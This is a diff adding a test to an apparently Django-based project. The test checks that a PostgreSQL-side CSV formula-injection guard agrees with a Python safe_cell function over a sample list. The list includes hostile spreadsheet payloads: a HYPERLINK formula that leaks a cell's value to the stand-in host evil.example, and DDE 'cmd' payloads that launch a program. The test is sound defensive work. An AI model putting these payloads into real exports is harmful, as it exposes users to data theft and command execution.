@@ -60,3 +60,41 @@ def test_no_csv_is_written_outside_the_helper():
     ]
     assert offenders == []
     assert pattern.search((LABGOV / "core" / "csv_export.py").read_text())
+
+
+GUARD_SAMPLES = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "-",
+    "--",
+    "-12.50",
+    "+3",
+    "-0.000137",
+    "1e5",
+    "-1E-3",
+    ".5",
+    "-.5e+7",
+    "-1.",
+    "-1e",
+    "-١٢",  # not ASCII digits: guarded by both
+    "Vision",
+    "a=b",
+    "",
+    "it's",
+]
+
+
+def test_the_sql_guard_is_the_same_rule(postgres):
+    """copy_csv_stream's guard, run by PostgreSQL, agrees with safe_cell on every sample."""
+    from django.db import connection
+
+    from labgov.core.csv_export import guard_sql
+
+    with connection.cursor() as cursor:
+        for value in GUARD_SAMPLES:
+            cursor.execute(f"SELECT {guard_sql('v.x')} FROM (SELECT %s::text AS x) v", [value])
+            assert cursor.fetchone()[0] == safe_cell(value), value
